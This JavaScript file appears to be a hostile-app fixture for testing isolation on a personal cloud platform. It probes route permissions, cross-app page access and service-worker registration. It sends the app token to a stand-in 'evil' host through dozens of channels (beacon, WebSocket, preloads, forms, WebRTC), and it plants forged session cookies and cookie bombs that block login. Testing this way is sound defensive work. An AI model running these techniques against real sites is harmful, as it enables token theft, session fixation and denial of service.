// What an app tries that wants more than its owner gave it. Each function answers what came of it.
const { domain, token } = JSON.parse(document.querySelector('main').dataset.cozy);
const [host] = domain.split(':');

async function statusOf(method, path, headers, at = domain) {
  try {
    return (await fetch(`http://${at}${path}`, { method, credentials: 'include', headers })).status;
  } catch {
    return 'refused';
  }
}

const outcome = (work) =>
  new Promise((resolve, reject) => {
    setTimeout(() => resolve('late'), 3000);
    Promise.resolve().then(work).then(resolve, reject);
  }).catch((error) => error.name);

const added = (name, members) => document.body.append(Object.assign(document.createElement(name), members));

window.hostile = {
  /** The routes with its own token, and with the cookie alone, by their statuses. */
  async ask(asked) {
    const found = {};
    for (const [method, path] of asked) {
      const withToken = await statusOf(method, path, { Authorization: `Bearer ${token}` });
      found[`${method} ${path}`] = [withToken, await statusOf(method, path, {})];
    }
    return found;
  },

  /** The pages of other apps, which have their tokens. */
  async steal(slugs) {
    const found = {};
    for (const slug of slugs) found[slug] = await statusOf('GET', '/', {}, `${slug}.${domain}`);
    return found;
  },

  /** Every way to say something to another server that a page has, but for leaving. */
  async leak(evil) {
    for (const rel of ['prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest', 'preconnect']) {
      document.head.append(Object.assign(document.createElement('link'), { rel, href: `${evil}/${rel}` }));
    }
    const html = `<img src="${evil}/image">`;
    for (const name of ['img', 'video', 'audio', 'embed', 'iframe', 'script']) added(name, { src: `${evil}/${name}` });
    added('object', { data: `${evil}/object` });
    added('iframe', { srcdoc: html });
    added('iframe', { src: `data:text/html,${html}` });
    added('iframe', { src: URL.createObjectURL(new Blob([html], { type: 'text/html' })) });
    document.body.insertAdjacentHTML('beforeend', `<p style="background: url(${evil}/css)">x</p>`);
    document.body.insertAdjacentHTML('beforeend', `<form action="${evil}/form" target="sink" method="post"></form>`);
    document.forms[0].submit();
    navigator.sendBeacon(`${evil}/beacon`, token);
    new EventSource(`${evil}/events`).close();
    const rules = { prefetch: [{ source: 'list', urls: [`${evil}/speculation`] }] };
    added('script', { type: 'speculationrules', textContent: JSON.stringify(rules) });
    const code = `fetch('${evil}/worker').then(() => postMessage('sent'), () => postMessage('refused'))`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    return {
      fetch: await outcome(() => fetch(`${evil}/fetch`)),
      socket: await outcome(
        () =>
          new Promise((open, fail) =>
            Object.assign(new WebSocket(evil.replace('http', 'ws')), {
              onopen: open,
              onerror: () => fail(new Error()),
            }),
          ),
      ),
      worker: await outcome(
        () => new Promise((resolve) => Object.assign(worker, { onmessage: ({ data }) => resolve(data) })),
      ),
      inline: await outcome(() => new Function('return 1')()),
    };
  },

  /** A call to a server that answers by UDP: what is said may be in its name. */
  async call(stun) {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    return outcome(
      () =>
        new Promise((resolve) => {
          const look = () => peer.iceGatheringState === 'complete' && resolve(`complete, ${peer.connectionState}`);
          peer.onicegatheringstatechange = look;
          look();
        }),
    );
  },

  /** Scripts that would see what other pages load. */
  async settle() {
    const register = (script, options) =>
      outcome(async () => (await navigator.serviceWorker.register(script, options)).scope);
    return {
      own: await register('/worker.js'),
      drive: await register(`http://drive.${domain}/worker.js`),
      instance: await register('/worker.js', { scope: `http://${domain}/` }),
    };
  },

  /** Cookies before those of the server. */
  toss() {
    for (const name of ['_csrf', 'cozysessid', 'cozydevice']) {
      for (const path of ['/', '/auth', '/auth/', '/auth/login', '/data', '/files', '/settings']) {
        // biome-ignore lint/suspicious/noDocumentCookie: the other way takes secure ones only
        document.cookie = `${name}=x; domain=${host}; path=${path}`;
      }
    }
    return document.cookie;
  },

  /** So many of them that the server reads no request any more, of any app and of the login. */
  bomb() {
    for (const path of ['/', '/auth']) {
      for (let n = 0; n < 12; n++) {
        // biome-ignore lint/suspicious/noDocumentCookie: the other way takes secure ones only
        document.cookie = `bomb${n}=${'x'.repeat(3900)}; domain=${host}; path=${path}`;
      }
    }
    return document.cookie.length;
  },

  /** A window of another app, opened by it. */
  async look(slug) {
    const other = window.open(`http://${slug}.${domain}/`);
    return outcome(async () => {
      for (;;) {
        await new Promise((resolve) => setTimeout(resolve, 50));
        if (other.location.href !== 'about:blank') return other.document.body.innerHTML;
      }
    });
  },
};
